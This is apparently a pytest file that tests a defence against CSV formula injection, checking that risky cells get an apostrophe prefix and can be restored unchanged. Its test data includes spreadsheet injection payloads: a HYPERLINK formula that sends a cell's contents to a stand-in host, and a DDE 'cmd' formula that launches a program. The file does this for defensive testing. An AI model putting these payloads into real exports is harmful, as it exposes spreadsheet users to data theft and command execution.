"""No cell is a formula, and every text comes back."""

import csv
import io
import itertools

import pytest

from mmfer.utils.csv_cells import guard_cell, guard_cells, guard_path, unguard_cell
from mmfer.utils.text_tables import path_key

SIGNS = ('=', '+', '-', '@', '＝', '＋', '－', '＠')
FORMULAS = (
    '=1+1',
    '=HYPERLINK("http://a.b?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1-1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    "'=x.jpg",
    "''@x",
    "' =x",
    '-a.jpg',
    '+49.png',
    '-0.3.png',
    '--1',
)
HARMLESS = (
    'a.jpg',
    '1=2.png',
    'a-b.png',
    "'a.png",
    "a'=b",
    '',
    ' ',
    "'",
    '-0.3',
    '+1',
    '-1e-05',
    '-inf',
    'ü@',
    './=x',
)


def dangerous(cell):
    """As a spreadsheet that skips white space sees it."""
    if cell.startswith(('\t', '\r', '\n')):
        return True
    number = cell.strip('+-').replace('.', '').replace('e', '').replace('-', '')
    is_number = number.isdigit() or number == 'inf'
    return cell.lstrip().startswith(SIGNS) and not is_number


@pytest.mark.parametrize('text', FORMULAS)
def test_formulas_get_an_apostrophe(text):
    assert guard_cell(text) == f"'{text}"
    assert not dangerous(guard_cell(text))
    assert unguard_cell(guard_cell(text)) == text


@pytest.mark.parametrize('text', HARMLESS)
def test_other_texts_and_numbers_stay(text):
    assert guard_cell(text) == text and not dangerous(text)
    assert unguard_cell(text) == text


def test_every_short_text_comes_back():
    """All texts of up to five of the characters that matter."""
    letters = "'=-@ \t1.a"
    count = 0
    for length in range(6):
        for letters_of_one in itertools.product(letters, repeat=length):
            text = ''.join(letters_of_one)
            cell = guard_cell(text)
            assert unguard_cell(cell) == text
            assert cell == text or not dangerous(cell)
            if dangerous(text):
                assert cell == f"'{text}"
            count += 1
    assert count == sum(len(letters) ** n for n in range(6))


def test_different_texts_have_different_cells():
    texts = [*FORMULAS, *HARMLESS, *(f"'{text}" for text in (*FORMULAS, *HARMLESS))]
    texts = list(dict.fromkeys(texts))
    cells = guard_cells(texts)
    assert cells == [guard_cell(text) for text in texts]
    assert len(set(cells)) == len(texts)
    # Also through a file.
    buffer = io.StringIO(newline='')
    csv.writer(buffer).writerows([cell, 1] for cell in cells)
    buffer.seek(0)
    assert [unguard_cell(row[0]) for row in csv.reader(buffer)] == texts


def test_paths_for_other_programs():
    for path in ('=x/a.jpg', '+a.png', '-a.png', '@b/c.png', '-0.5.png'):
        assert guard_path(path) == f'./{path}'
        assert path_key(guard_path(path)) == path_key(path)
        assert guard_path(guard_path(path)) == guard_path(path)
    for path in ('a.png', 'FER2013Train/fer0.png', '/a/=b.png', "'=x.png", '../a'):
        assert guard_path(path) == path
